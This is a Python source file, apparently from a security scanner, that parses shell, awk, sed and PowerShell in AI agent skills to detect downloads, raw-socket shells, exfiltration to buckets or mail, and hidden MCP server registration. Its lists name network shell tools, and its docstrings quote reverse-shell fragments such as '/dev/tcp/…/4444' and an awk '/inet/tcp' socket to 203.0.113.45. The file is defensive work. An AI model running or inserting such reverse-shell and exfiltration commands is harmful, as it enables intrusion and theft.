    r'\bsystem\s*\(\s*"((?:[^"\\]|\\.)+)"\s*\)|"((?:[^"\\]|\\.)+)"\s*\|\s*getline|\|\s*"((?:[^"\\]|\\.)+)"'
)


def _awk_commands(program: str) -> list[str]:
    """The constant shell commands an awk program runs."""
    return [next(g for g in m.groups() if g).replace('\\"', '"') for m in _AWK_COMMAND.finditer(program)]


_AWK_ASSIGNMENT = re.compile(
    r"(?:^|[;{\s])([A-Za-z_]\w*)\s*=(?!=)\s*((?:\"(?:[^\"\\\n]|\\.)*\"|[A-Za-z_]\w*|\d+|[ \t]+)+)"
)
_AWK_TERM = re.compile(r"\"((?:[^\"\\\n]|\\.)*)\"|([A-Za-z_]\w*)|(\d+)")


def _awk_folded(program: str) -> str:
    """The program with each ``name = "a" "b" other`` assignment's value folded into a string literal
    where the name is used: awk joins adjacent strings, so ``h = "203.0.113" ".45"; s = "/inet/tcp/0/"
    h "/" p`` names its peer only once the pieces are put together."""
    values: dict[str, str] = {}
    for match in _AWK_ASSIGNMENT.finditer(program):
        parts = []
        for term in _AWK_TERM.finditer(match.group(2)):
            literal, name, number = term.groups()
            parts.append(literal if literal is not None else number if number is not None else values.get(name, "?"))
        values[match.group(1)] = "".join(parts)
    folded = [value for value in values.values() if "/inet/" in value]
    return program + ("\n" + "\n".join(f'"{value}"' for value in folded) if folded else "")


_AWK_RUNS = re.compile(r"\bsystem\s*\(|(?<![|&])\|(?!&)\s*getline\b|\bprint[^;}]*(?<![|&])\|(?!&)")
"""awk runs a shell command: ``system(cmd)``, ``cmd | getline`` and ``print … | cmd`` (``|&`` is the
socket's own two-way pipe)."""

_PACKAGE_FILES = (".tgz", ".tar.gz", ".whl", ".zip", ".gem", ".crate", ".tar.bz2")
_UV_VALUE_FLAGS = frozenset(
    {"--with", "--with-editable", "--with-requirements", "--python", "-p", "--from", "--project", "--directory",
     "--env-file", "--extra", "--group", "--only-group", "--index", "--default-index", "--index-url",
     "--extra-index-url", "--package", "-m", "--module"}
)  # fmt: skip


def _uv_run_command(args: list[Value]) -> str | None:
    """The command ``uv run`` is given: its first word that is no option or an option's value."""
    index = 0
    while index < len(args):
        word = args[index].pattern or ""
        if word in _UV_VALUE_FLAGS:
            index += 2
            continue
        if word.startswith("-"):
            index += 1
            continue
        return word.strip("\"'") or None
    return None


_AWK_COPROCESS = re.compile(r"\b([A-Za-z_]\w*)\s*\|&\s*getline\b")
_AWK_SOCKET_NAME = re.compile(r"\b([A-Za-z_]\w*)\s*=\s*\"/inet/")


def _awk_runs(program: str) -> bool:
    """The awk program runs a shell command: :data:`_AWK_RUNS`, or a two-way pipe (``cmd |& getline``)
    to something other than its socket, which gawk starts as a command (what the socket sent, run)."""
    if _AWK_RUNS.search(program):
        return True
    sockets = set(_AWK_SOCKET_NAME.findall(program))
    return bool(sockets) and any(name not in sockets for name in _AWK_COPROCESS.findall(program))


_JOB_SUBMITTERS = ("sbatch", "qsub", "bsub")
"""Batch schedulers that run a job script they are given as a file or on stdin (Slurm, PBS/SGE, LSF);
``at`` and ``batch`` are read as commands run later, with the other schedulers of the machine."""

_Handler = Any
_DATABASE_CODE_FLAGS = {
    "psql": frozenset({"-c", "--command"}),
    "mysql": frozenset({"-e", "--execute"}),
    "mariadb": frozenset({"-e", "--execute"}),
    "sqlcmd": frozenset({"-Q", "-q", "--query"}),
    "clickhouse-client": frozenset({"-q", "--query"}),
}
"""The flags whose value a database client runs as SQL statements."""

_HANDLERS: dict[str, _Handler] = {
    **dict.fromkeys(("curl", "wget", "aria2c", "xh", "http", "https", "invoke-webrequest", "iwr", "irm",
                     "invoke-restmethod", "lwp-download", "fetch", "bitsadmin"), _Walker.download),
    **dict.fromkeys(("base64", "base32", "basenc", "xxd", "openssl", "gunzip", "zcat", "gzip", "bunzip2", "bzip2",
                     "xz", "unxz", "zstd", "rev", "tr", "uudecode", "certutil"), _Walker.decode),
    **dict.fromkeys(tuple(vocabulary.SHELLS | vocabulary.INTERPRETERS - {"bun", "deno"}), _Walker.shell),
    **dict.fromkeys(("echo", "printf", "write-output"), _Walker.echo),
    **dict.fromkeys(_JOB_SUBMITTERS, _Walker.submit_job),
    **dict.fromkeys(("nc", "nc64", "ncat", "netcat", "socat", "telnet", "cryptcat", "pwncat"), _Walker.raw_socket),
    **dict.fromkeys(tuple(_DATABASE_CODE_FLAGS), _Walker.database_client),
    **dict.fromkeys(("mail", "mailx", "s-nail", "mutt", "neomutt", "sendmail", "msmtp", "ssmtp"), _Walker.mail),
    **dict.fromkeys(("pip", "pip3", "pipx", "uv", "uvx", "poetry", "pdm", "npm", "npx", "pnpm", "pnpx", "yarn",
                     "bunx", "bun", "gem", "cargo", "conda", "mamba", "go"), _Walker.install),
}  # fmt: skip


_POSTING_SUBCOMMANDS = frozenset(
    {("issue", "comment"), ("issue", "create"), ("issue", "edit"), ("pr", "comment"), ("pr", "create"),
     ("pr", "edit"), ("pr", "review"), ("release", "create"), ("release", "edit"), ("release", "upload"),
     ("mr", "note"), ("mr", "create"), ("issue", "note"), ("discussion", "create"), ("snippet", "create")}
)  # fmt: skip
"""``gh``/``glab`` subcommands that publish text on the code host (a comment, an issue, a release)."""
_BODY_FLAGS = frozenset({"--body", "-b", "--title", "-t", "--notes", "-n", "--message", "-m", "--description", "-d"})
_BODY_FILE_FLAGS = frozenset({"--body-file", "-F", "--notes-file"})
_MAIL_ADDRESS = re.compile(r"[\w.+-]+@(?:[\w-]+\.)+[A-Za-z]{2,}")
_ARITHMETIC = re.compile(r"[\d\s+\-*/%()]+")
_ARITHMETIC_NAME = re.compile(r"\$?\b([A-Za-z_]\w*)\b")


def _arithmetic(expression: str, variables: dict[str, Value]) -> str | None:
    """``$((11*4))`` as bash works it out, integers only (a port or an octet built from pieces), with
    the snippet's known numeric variables; ``None`` for anything else."""

    def known(match: re.Match[str]) -> str:
        text = variables.get(match.group(1), UNKNOWN).text
        return text if text is not None and text.isdigit() else "?"

    folded = _ARITHMETIC_NAME.sub(known, expression).strip()  # `$(( 4000 + 443 ))`: spaces inside are bash's own
    if len(folded) > 64 or not _ARITHMETIC.fullmatch(folded) or "**" in folded:
        return None
    try:
        result = _integer(ast.parse(folded, mode="eval").body)
    except (SyntaxError, ZeroDivisionError, ValueError):
        return None
    return str(result) if result is not None and abs(result) < 10**12 else None


_INTEGER_OPERATORS: dict[type[ast.operator], Callable[[int, int], int]] = {
    ast.Add: operator.add, ast.Sub: operator.sub, ast.Mult: operator.mul,
    ast.Div: lambda a, b: int(a / b), ast.Mod: operator.mod,
}  # fmt: skip


def _integer(node: ast.expr) -> int | None:
    if isinstance(node, ast.Constant) and isinstance(node.value, int):
        return node.value
    if isinstance(node, ast.UnaryOp) and isinstance(node.op, (ast.USub, ast.UAdd)):
        value = _integer(node.operand)
        return None if value is None else (-value if isinstance(node.op, ast.USub) else value)
    if isinstance(node, ast.BinOp) and type(node.op) in _INTEGER_OPERATORS:
        left, right = _integer(node.left), _integer(node.right)
        return None if left is None or right is None else _INTEGER_OPERATORS[type(node.op)](left, right)
    return None


def _requoted(first: Node, last: Node) -> Node | None:
    """The word from ``first`` to ``last`` parsed again as one double-quoted string: where no blank
    splits it, bash expands it the same way."""
    whole = last.parent
    while whole is not None and whole.end_byte < last.end_byte:
        whole = whole.parent
    if whole is None or whole.text is None or whole.start_byte > first.start_byte:
        return None
    raw = whole.text[first.start_byte - whole.start_byte : last.end_byte - whole.start_byte]
    if any(ch in raw for ch in b'"`\\\n'):
        return None
    tree = _parser().parse(b'v="' + raw + b'"\n')
    assignment = tree.root_node.named_children[0] if tree.root_node.named_children else None
    value = assignment.child_by_field_name("value") if assignment is not None else None
    return value if value is not None and value.type == "string" else None


_WORD_NODES = frozenset(
    {"command_name", "word", "concatenation", "simple_expansion", "expansion", "string", "raw_string", "number",
     "command_substitution"}
)  # fmt: skip


def _glued_words(children: list[Node], skipped: set[int]) -> dict[int, Node]:
    """For each word of a command the parser split with no blank between the pieces, its first
    node's start and its last piece: bash reads them as one word."""
    tails: dict[int, Node] = {}
    start: Node | None = None
    for previous, child in itertools.pairwise(children):
        touching = previous.end_byte == child.start_byte and previous.id not in skipped and child.id not in skipped
        if touching and previous.type in _WORD_NODES and child.type in _WORD_NODES and child.type != "command_name":
            start = start or previous
            tails[start.start_byte] = child
        else:
            start = None
    return tails


def _glued_assignments(children: list[Node]) -> list[tuple[Node, tuple[Node, ...]]]:
    """Each assignment among ``children`` with the nodes that touch its end. tree-sitter-bash ends
    an unquoted value at a dot after an expansion (``t=/dev/tcp/$a.$b.$c/4444`` comes out as
    ``t=/dev/tcp/$a.`` and a command named ``$b.$c/4444``); bash reads one word up to a blank, so
    what follows with no gap is the rest of the value."""
    found: list[tuple[Node, tuple[Node, ...]]] = []
    for index, child in enumerate(children):
        if child.type != "variable_assignment":
            continue
        pieces: list[Node] = []
        end = child.end_byte
        for following in children[index + 1 :]:
            if following.start_byte != end or following.type not in ("command_name", "concatenation", "word"):
                break
            pieces.append(following)
            end = following.end_byte
        found.append((child, tuple(pieces)))
    return found


def _unwrapped(values: list[Value]) -> list[Value]:
    """The words after ``sudo -u x``, ``nohup``, ``env A=b``, ``timeout 5`` and similar wrappers."""
    index = 0
    while index < len(values):
        name = vocabulary.command_name(values[index].text or "")
        if name in _OPERAND_WRAPPERS:
            command = _after_wrapper_operands(values, index + 1, *_OPERAND_WRAPPERS[name])
            if command is None:
                break
            index = command
            continue
        if name not in _WRAPPERS or (name == "exec" and index + 1 >= len(values)):
            break
        if name == "exec" and index + 1 < len(values) and (values[index + 1].text or "").isdigit():
            break
        rest = [v.text or "" for v in values[index + 1 :]]
        if name == "env" and all(t.startswith("-") or "=" in t for t in rest):
            break  # env alone prints the environment
        index += 1
        while index < len(values):
            text = values[index].text or ""
            if name == "start" and (
                values[index].text == "" or (text.startswith("/") and len(text) <= 9 and text[1:].isalpha())
            ):
                index += 1  # cmd's start: its window title ("") and switches (/min, /b, /wait)
                continue
            if text.startswith("-") and name != "exec":
                index += 2 if text in _WRAPPER_VALUE_FLAGS and name in ("sudo", "doas", "su", "runuser") else 1
                continue
            if name == "env" and "=" in text:
                index += 1
                continue
            if name in ("timeout", "nice") and re.fullmatch(r"[\d.]+[smhd]?", text):
                index += 1
                continue
            break
    return values[index:]


_OPERAND_WRAPPERS: dict[str, tuple[int, frozenset[str]]] = {
    "chroot": (1, frozenset({"--userspec", "--groups"})),
    "flock": (1, frozenset({"-w", "--timeout", "-E", "--conflict-exit-code"})),
    "chrt": (1, frozenset({"-T", "-P", "-D"})),
    "taskset": (1, frozenset()),
    "runcon": (1, frozenset({"-u", "-r", "-t", "-l"})),
    "setuidgid": (1, frozenset()),
    "nsenter": (0, frozenset({"-t", "--target", "-S", "--setuid", "-G", "--setgid", "-w", "--wd", "-r", "--root"})),
    "unshare": (0, frozenset({"-S", "--setuid", "-G", "--setgid", "-R", "--root", "-w", "--wd", "--map-user"})),
    "setpriv": (0, frozenset({"--reuid", "--regid", "--groups", "--inh-caps", "--bounding-set"})),
    "pkexec": (0, frozenset({"--user"})),
    "strace": (0, frozenset({"-o", "-e", "-s", "-p", "-u", "-E", "-a", "-P", "-I", "-b", "-X"})),
    "ltrace": (0, frozenset({"-o", "-e", "-s", "-p", "-u", "-a", "-n", "-x"})),
    "xvfb-run": (0, frozenset({"-n", "--server-num", "-s", "--server-args", "-f", "--auth-file", "-e", "-w"})),
    "proot": (0, frozenset({"-r", "-b", "-m", "-w", "-q", "-k"})),
    "fakeroot": (0, frozenset({"-l", "--lib", "--faked", "-s", "-i"})),
    "numactl": (0, frozenset({"-N", "-m", "-C", "-p", "-i"})),
    "firejail": (0, frozenset()),
    "ssh-agent": (0, frozenset({"-a", "-E", "-t", "-P"})),
    "torsocks": (0, frozenset({"-u", "-p", "-a", "-P"})),
    "proxychains": (0, frozenset({"-f"})),
    "proxychains4": (0, frozenset({"-f"})),
}  # fmt: skip
"""Programs that run the command written after their own options and a fixed number of operands, in
another root, namespace, lock, CPU set, user, tracer or proxy (``chroot /host sh -i``, ``nsenter -t 1
-m -p sh``, ``flock /tmp/l cmd``, ``torsocks curl …``): the command is what runs. Options and operands
as each tool's manual gives them (util-linux, coreutils, torsocks, proxychains-ng)."""


def _after_wrapper_operands(values: list[Value], start: int, operands: int, valued: frozenset[str]) -> int | None:
    """Where the command a wrapper runs starts, after its options (``valued`` ones take the next word
    unless written ``--opt=x``) and ``operands`` words; ``None`` when no command follows."""
    index = start
    while index < len(values):
        text = values[index].text or ""
        if text == "--":
            index += 1
            break
        if not text.startswith("-") or text == "-":
            break
        index += 2 if text in valued else 1
    index += operands
    return index if index < len(values) else None


_AGENT_CLIS = frozenset({"claude", "codex", "gemini", "qwen", "amp", "cursor-agent"})


def _mcp_add_operands(args: list[Value]) -> list[Value]:
    """The operands of ``mcp add-json`` after its options (``-s user``, ``--scope=project``)."""
    operands: list[Value] = []
    skip = False
    for arg in args:
        text = arg.text or ""
        if skip:
            skip = False
        elif text in _MCP_ADD_VALUE_FLAGS:
            skip = True
        elif not text.startswith("-"):
            operands.append(arg)
    return operands


_MCP_ADD_VALUE_FLAGS = frozenset({"-e", "--env", "-s", "--scope", "-t", "--transport", "-H", "--header"})


_ASSIGNED = re.compile(r"(?:^|[\s;])(?:export\s+|declare\s+(?:-\w+\s+)*)?([A-Za-z_]\w{0,63})=")
_BUCKET = re.compile(r"(?i)^(?:s3|gs|az|r2)://[^/\s]+|^https://[\w-]+\.blob\.core\.windows\.net/[^/\s]+")
_STORE_COPIES = {"aws": ("s3",), "gsutil": (), "gcloud": ("storage",), "azcopy": ()}
"""Object-store copy commands and the words before their verb (``aws s3 cp``, ``gcloud storage cp``)."""


def _object_store_upload(name: str, texts: list[str | None]) -> tuple[list[int], str] | None:
    """``aws s3 cp SRC s3://bucket/…`` and its kin: the indexes of the local sources and the bucket, when
    the last operand is a bucket and the sources are not."""
    prefix = _STORE_COPIES.get(name)
    if prefix is None:
        return None
    operands = [(i, t) for i, t in enumerate(texts) if t and not t.startswith("-")]
    words = [t for _, t in operands]
    verb_at = len(prefix)
    if words[: len(prefix)] != list(prefix) or len(words) < verb_at + 3:
        return None
    if words[verb_at] not in ("cp", "mv", "sync", "rsync", "copy"):
        return None
    bucket = _BUCKET.match(words[-1])
    sources = [i for i, t in operands[verb_at + 1 : -1] if not _BUCKET.match(t)]
    if bucket is None or not sources:
        return None
    return sources, bucket.group(0)


def _registered_server(name: str, texts: list[str | None]) -> int | None:
    """Where the command starts in ``claude mcp add NAME [--] COMMAND ARGS``: an agent CLI registers
    a local MCP server the client starts from then on (``None`` when not such a command)."""
    if name not in _AGENT_CLIS or texts[:2] != ["mcp", "add"]:
        return None
    if "--" in texts:
        start = texts.index("--") + 1
        return start if start < len(texts) else None
    index, seen_name = 2, False
    while index < len(texts):
        text = texts[index] or ""
        if text.startswith("-"):
            index += 2 if text in _MCP_ADD_VALUE_FLAGS else 1
            continue
        if seen_name:
            return index if "://" not in text else None  # a URL is a remote server, not a command
        seen_name = True
        index += 1
    return None


_GREP_PLAIN_FLAGS = frozenset({"-v", "--invert-match", "-E", "--extended-regexp", "-i", "--ignore-case", "-h", "-s"})


def _first_remote_host(urls: list[str]) -> str | None:
    """The host of the first of ``urls`` that is not this machine's."""
    from skillgrade.rules.security.behaviour.places import host_of  # off the hook's import path

    return next((h for u in urls if (h := host_of(u)) and not vocabulary.is_local_host(h)), None)


def _host_handed_beside(given: list[Value]) -> str | None:
    """Where a script that takes its endpoint at run time sends, from the other words of the command
    that runs it: a URL among them, or, for a placeholder the agent fills in (``<endpoint>``), the
    first remote host the skill's Markdown names (what the agent following it puts there)."""
    words = [value.text or "" for value in given]
    handed = _first_remote_host([w for w in words if "://" in w])
    if handed is not None or not any(_PLACEHOLDER_ARGUMENT.fullmatch(w) for w in words):
        return handed
    markdown = [text for rel, text in (BUNDLED.get() or {}).items() if rel.lower().endswith((".md", ".markdown"))]
    return _first_remote_host([u for text in markdown for u in vocabulary.urls(text)])


_PLACEHOLDER_ARGUMENT = re.compile(r"<[^<>\n]{1,60}>")
"""A word the agent is to fill in (``<from step 3>``, ``<endpoint>``)."""


def _grepped_bundled_file(name: str, words: list[str]) -> Value | None:
    """What ``grep [-v] PATTERN FILE`` prints when FILE is one of the skill's own files (a list with
    its comment lines dropped, ``grep -v '^#' tools.lst``): the lines it keeps, for the loop that
    reads them. Other options, or a basic-syntax group the regular expression would read otherwise,
    leave it unknown."""
    flags = [w for w in words if w.startswith("-")]
    operands = [w for w in words if not w.startswith("-")]
    if len(operands) != 2 or not set(flags) <= _GREP_PLAIN_FLAGS:
        return None
    pattern, path = operands
    extended = name == "egrep" or "-E" in flags or "--extended-regexp" in flags
    if not extended and re.search(r"\\[(){}|+?]", pattern):
        return None
    content = bundled_text(path)
    if content is None or content.text is None:
        return None
    from skillgrade.rules.security.behaviour.filters import nests_quantifiers  # only where grep reads a file

    if nests_quantifiers(pattern):
        return None  # `(a+)+` over a line built for it backtracks for ever
    try:
        compiled = re.compile(pattern, re.IGNORECASE if {"-i", "--ignore-case"} & set(flags) else 0)
    except re.error:
        return None
    invert = "-v" in flags or "--invert-match" in flags
    kept = [line for line in content.text.split("\n") if (compiled.search(line) is None) == invert]
    return Value("\n".join(kept))


def _printed_bundled_file(name: str, words: list[str | None]) -> Value | None:
    """What ``cat FILE`` or ``sed 's/a/b/' FILE`` prints when FILE is one of the skill's own files
    (``words``: the arguments' text, or shape with ``*`` for unknown pieces): a template filled in and
    written elsewhere (a launch agent, a unit) installs what it says."""
    known = [w for w in words if w]
    if name in ("grep", "egrep") and words and len(known) == len(words):
        return _grepped_bundled_file(name, known)
    if name in ("head", "tail") and words and len(known) == len(words):
        return _picked_bundled_lines(name, known)
    if name not in ("cat", "sed") or not words or len(known) != len(words):
        return None
    if name == "sed" and any(w.startswith("-i") or w == "--in-place" for w in known):
        return None
    quiet = name == "sed" and any(w in ("-n", "--quiet", "--silent") for w in known)
    scripts, operands = _sed_scripts(known) if name == "sed" else ([], [w for w in known if not w.startswith("-")])
    if name == "cat" and 1 < len(operands) == len(known):
        return _joined_bundled_files(operands)
    if len(operands) != 1 or (name == "sed" and not scripts) or (quiet and len(scripts) != 1):
        return None
    content = bundled_text(operands[-1])
    if content is None or content.text is None:
        return None
    text = content.text
    if quiet:
        printed = _sed_printed(scripts[0], text)
        return Value(printed) if printed is not None else None
    for script in scripts:
        text = _sed_substituted(script or "", text)
    return Value(text)


def _picked_bundled_lines(name: str, words: list[str]) -> Value | None:
    """What ``head -1 FILE`` (``-n 3``, ``-n3``, ``--lines=2``; ten lines by default) or ``tail`` prints
    of one of the skill's own files: a host or a command kept in a config file the script reads its
    first line of (``base="$(head -1 "$HERE/conf/mirror")"``) is that host."""
    count, operands, index = 10, [], 0
    while index < len(words):
        word = words[index]
        if word == "-n" and index + 1 < len(words) and words[index + 1].isdigit():
            count, index = int(words[index + 1]), index + 2
            continue
        given = re.fullmatch(r"-n?(\d+)|--lines=(\d+)", word)
        if given is not None:
            count = int(given.group(1) or given.group(2))
        elif word.startswith("-"):
            return None  # -c bytes, -f follow, +N: not lines as counted here
        else:
            operands.append(word)
        index += 1
    content = bundled_text(operands[0]) if len(operands) == 1 and count > 0 else None
    if content is None or content.text is None:
        return None
    lines = content.text.splitlines()
    return Value("\n".join(lines[:count] if name == "head" else lines[-count:]))


_JOINED_PIECES: contextvars.ContextVar[dict[str, tuple[tuple[str, int], ...]] | None] = contextvars.ContextVar(
    "joined_pieces", default=None
)
"""Text ``cat A B > out`` joined from several of one skill's files, with each piece's file and line
count: a run of ``out`` is shown at the lines of the pieces that do it. Set in the context the
skill's scan runs in, so it never outlives that skill."""


def _piece_evidence(
    evidence: Evidence, pieces: tuple[tuple[str, int], ...], prefix: str, path: str, run_at: int
) -> Evidence:
    """A link of a written program's chain at the line of the skill's file it came from, when the
    program was joined from the skill's files; else at the line that runs the program."""
    if evidence.path != path or evidence.line is None:
        return evidence
    start = 1
    for rel, count in pieces:
        if evidence.line < start + max(count, 1):
            return Evidence(prefix + rel, evidence.line - start + 1, evidence.what)
        start += count
    return Evidence(path, run_at, evidence.what)


def _joined_bundled_files(operands: list[str]) -> Value | None:
    """What ``cat A B …`` prints when every operand is one of the skill's own files: their texts one
    after another, as the program a later step runs once it is written out (a helper shipped in parts
    so no one file shows what it does)."""
    rels = [bundled_rel(operand) for operand in operands[:16]]
    table = BUNDLED.get() or {}
    if len(rels) != len(operands) or any(rel is None or rel not in table for rel in rels):
        return None
    texts = [table[rel] for rel in rels if rel is not None]
    joined = "".join(texts)
    known = _JOINED_PIECES.get()
    if known is None:
        known = {}
        _JOINED_PIECES.set(known)
    known[joined] = tuple((rel, text.count("\n")) for rel, text in zip(rels, texts, strict=True) if rel)
    return Value(joined)


def _sed_scripts(words: list[str]) -> tuple[list[str], list[str]]:
    """sed's scripts and its file operands: each ``-e SCRIPT`` / ``--expression=SCRIPT`` in order (a
    template filled slot by slot), else the first operand; ``-f FILE`` reads a script not followed."""
    scripts: list[str] = []
    operands: list[str] = []
    given = iter(words)
    for word in given:
        if word in ("-e", "--expression"):
            scripts.append(next(given, ""))
        elif word.startswith("--expression="):
            scripts.append(word.split("=", 1)[1])
        elif word in ("-f", "--file") or word.startswith("--file="):
            return [], []
        elif not word.startswith("-"):
            operands.append(word)
    if not scripts and operands:
        scripts, operands = operands[:1], operands[1:]
    return scripts, operands


_SED_PRINTED_SUBSTITUTION = re.compile(r"\s*s(.)(.*?)\1(.*?)\1g?p\s*")
_SED_ADDRESS = re.compile(r"\s*/((?:[^/\\]|\\.)+)/\s*(.*)", re.DOTALL)
"""A sed command with a regular-expression address before it (``/^#>/s/^#> //p``)."""
_POSIX_CLASSES = {
    "[:space:]": r"\s", "[:blank:]": r" \t", "[:digit:]": r"\d", "[:alpha:]": "A-Za-z", "[:alnum:]": "A-Za-z0-9",
    "[:upper:]": "A-Z", "[:lower:]": "a-z", "[:punct:]": r"!-/:-@\[-`{-~", "[:xdigit:]": "0-9A-Fa-f",
}  # fmt: skip
"""The POSIX bracket classes sed's patterns use, as Python writes them inside a bracket."""


def _sed_printed(script: str, text: str) -> str | None:
    """What ``sed -n 's/RE/NEW/p' FILE`` prints of ``text``: the lines the substitution matched, each
    with it made; how a script reads one setting out of a config file (``s/^url *= *//p``). An address
    first (``/^#>/s/^#> //p``, ``/^#>/p``) keeps only the lines it matches: how a script takes the
    marked lines of a template. ``None`` for another script."""
    lines = text.splitlines()
    addressed = _SED_ADDRESS.fullmatch(script)
    if addressed is not None:
        address = _sed_pattern(addressed.group(1))
        if address is None:
            return None
        lines = [line for line in lines if address.search(line)]
        script = addressed.group(2)
        if script.strip() == "p":
            return "\n".join(lines)
    match = _SED_PRINTED_SUBSTITUTION.fullmatch(script)
    if match is None:
        return None
    found = _sed_pattern(match.group(2))
    if found is None:
        return None
    replacement = match.group(3).replace("\\", "\\\\")
    return "\n".join(found.sub(replacement, line, count=1) for line in lines if found.search(line))


def _sed_pattern(pattern: str) -> re.Pattern[str] | None:
    """sed's regular expression as Python's (POSIX classes written out), ``None`` when it does not compile."""
    for posix, python in _POSIX_CLASSES.items():
        pattern = pattern.replace(posix, python)
    try:
        return re.compile(pattern)
    except re.error:
        return None


def _sed_over_input(texts: list[str | None], stdin: Value) -> str | None:
    """What ``… | sed 's/a/b/'`` prints when its input is known text and it names no file: how a
    script turns a setting into the command it runs (``interactive`` into ``bash -i``) or hex into
    escapes (``s/\\(..\\)/\\\\x\\1/g``). ``None`` when a word, the input or a script is not known or
    not a substitution read here, or sed edits a file or reads its script from one."""
    if stdin.text is None or any(t is None for t in texts):
        return None
    words = [t for t in texts if t is not None]
    if any(w.startswith("-i") or w in ("-n", "--quiet", "--silent", "--in-place") for w in words):
        return None
    extended = any(w in ("-E", "-r", "--regexp-extended") for w in words)
    scripts, operands = _sed_scripts(words)
    if not scripts or operands:
        return None
    text: str | None = stdin.text
    for script in scripts:
        for command in filter(str.strip, script.split(";")):
            text = _sed_substitution(command, text, extended) if text is not None else None
    return text


_SED_SUBSTITUTION = re.compile(r"\s*s(.)((?:\\.|(?!\1).)*)\1((?:\\.|(?!\1).)*)\1(g?)\s*", re.DOTALL)
_BRE_ESCAPED = {"(": "(", ")": ")", "{": "{", "}": "}", "+": "+", "?": "?", "|": "|"}
"""Basic regular expressions' escaped operators (``\\(..\\)``), which Python writes bare."""


def _sed_substitution(command: str, text: str, extended: bool) -> str | None:
    """``text`` after one sed ``s<d>RE<d>NEW<d>[g]`` command, its pattern read as sed reads it (basic
    or ``-E`` extended) and its replacement's ``\\1`` and ``&`` kept; ``None`` for another command."""
    match = _SED_SUBSTITUTION.fullmatch(command)
    if match is None:
        return None
    pattern = match.group(2) if extended else _bre_as_python(match.group(2))
    try:
        compiled = re.compile(pattern)
    except re.error:
        return None
    replacement = _sed_replacement(match.group(3))
    try:
        return compiled.sub(lambda m: m.expand(replacement), text, count=0 if match.group(4) else 1)
    except (re.error, IndexError):
        return None


def _bre_as_python(pattern: str) -> str:
    """A basic regular expression in Python's spelling: ``\\(`` groups, a bare ``(`` is itself."""
    out: list[str] = []
    index = 0
    while index < len(pattern):
        char = pattern[index]
        if char == "\\" and index + 1 < len(pattern):
            following = pattern[index + 1]
            out.append(_BRE_ESCAPED.get(following, "\\" + following))
            index += 2
            continue
        out.append(re.escape(char) if char in _BRE_ESCAPED else char)
        index += 1
    return "".join(out)


def _sed_replacement(given: str) -> str:
    """sed's replacement text as a template for :meth:`re.Match.expand`: ``&`` the match, ``\\N`` a
    group, ``\\n`` a line break, any other escaped character itself."""
    out: list[str] = []
    index = 0
    while index < len(given):
        char = given[index]
        if char == "\\" and index + 1 < len(given):
            following = given[index + 1]
            escaped = "\n" if following == "n" else following.replace("\\", "\\\\")
            out.append(f"\\g<{following}>" if following.isdigit() else escaped)
            index += 2
            continue
        out.append("\\g<0>" if char == "&" else char.replace("\\", "\\\\"))
        index += 1
    return "".join(out)


def _sed_substituted(script: str, text: str) -> str:
    """``text`` after sed's ``s<d>old<d>new<d>[g]`` commands (others are left alone)."""
    if "*" in script:
        return text  # a substitution with unknown pieces: the template's own text says enough
    for command in script.split(";"):
        substituted = _sed_substitution(command, text, extended=False)
        text = text if substituted is None else substituted
    return text


_POWERSHELL_HOSTS = frozenset({"powershell", "powershell.exe", "pwsh", "pwsh.exe"})
_ENCODED_FLAGS = frozenset({"-e", "-en", "-enc", "-ec", "-encodedcommand", "/e", "/enc", "/encodedcommand"})


_SPACED_PROGRAM_PATH = re.compile(r"(?i)\s*(?:[a-z]:)?[\\/](?:[^\\/\n]+[\\/])+[^\\/\s]+\s*")
"""A program named by a path whose folders hold spaces (``"C:\\Program Files (x86)\\Nmap\\ncat.exe"``): one
word, unlike a variable holding a command and its arguments (``$CMD`` = ``"sh -c"``)."""
_SCRIPT_FILE = re.compile(r"(?i)\.(?:ps1|psm1|sh|bash|zsh|py|js|mjs|cjs|cmd|bat)$")
_POWERSHELL_VALUE_FLAG = re.compile(
    r"(?i)[-/](?:w|windowstyle|ep|ex|executionpolicy|version|v|configurationname|config|outputformat|o|of"
    r"|inputformat|if|workingdirectory|wd|psconsolefile|custompipename|settingsfile)"
)
"""PowerShell host flags that take the next word as their value (the script to run comes after it)."""


def _powershell_command_flag(word: str | None) -> bool:
    """PowerShell's -Command, which it accepts as any prefix (``-C``, ``-Com``) in any case, or with ``/``."""
    lowered = (word or "").lower()
    return len(lowered) >= 2 and lowered[0] in "-/" and "-command".startswith("-" + lowered[1:])


_ARGV_UNPACKED = re.compile(
    r"(?m)^(?P<head>[ \t]*(?P<names>[A-Za-z_]\w*(?:[ \t]*,[ \t]*[A-Za-z_]\w*)+)[ \t]*,?[ \t]*=[ \t]*)"
    r"sys\.argv(?P<rest>\[1:\])?[ \t]*$"
)
"""A line unpacking the arguments into names (``out, login = sys.argv[1:]``, ``_, out = sys.argv``)."""


def _argv_written_in(code: str, args: list[Value]) -> str:
    """Python ``code`` run with ``args`` as its arguments (``python3 - "$S" <<'PY'``, ``python3 -c '…'
    URL``), with each known one written in for ``sys.argv[n]``: the URL a one-liner fetches is the
    word after its program."""
    code = _ARGV_UNPACKED.sub(_argv_items, code)
    for number, given in enumerate(args, start=1):
        known = given.text if given.text is not None else given.pattern
        if known and "?" not in known:
            code = re.sub(rf"\bsys\.argv\[{number}\]", repr(known).replace("\\", "\\\\"), code)
    return code


def _argv_items(match: re.Match[str]) -> str:
    """The unpacking written item by item (``out, login = sys.argv[1], sys.argv[2]``), on the same
    line, so each name gets the argument the shell gave in that place."""
    first = 1 if match.group("rest") else 0
    count = len(match.group("names").split(","))
    return match.group("head") + ", ".join(f"sys.argv[{first + index}]" for index in range(count))


_STDIN_LANGUAGES = {
    "python": "python", "python3": "python", "node": "javascript", "nodejs": "javascript",
    **dict.fromkeys(_POWERSHELL_HOSTS, "powershell"),
}  # fmt: skip
"""Interpreters whose program, read from stdin, one of our analysers reads."""


def _ps_quoted(word: str) -> str:
    return "'" + word.replace("'", "''") + "'"


_PATTERN_FIRST = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "ack", "awk", "gawk", "sed", "jq", "yq"})
"""Commands whose first operand is a pattern or a program, not a file (unless a flag gives it)."""
_PATTERN_FLAGS = frozenset({"-e", "--regexp", "--expression"})
_VALUE_OPTIONS = {
    "grep": frozenset({"-m", "-A", "-B", "-C", "-d", "-D", "--include", "--exclude", "--exclude-dir"}),
    "rg": frozenset({"-m", "-A", "-B", "-C", "-g", "--glob", "-t", "--type", "-T", "--type-not"}),
    "awk": frozenset({"-v", "-F"}),
    "jq": frozenset({"--arg", "--argjson", "--indent"}),
}
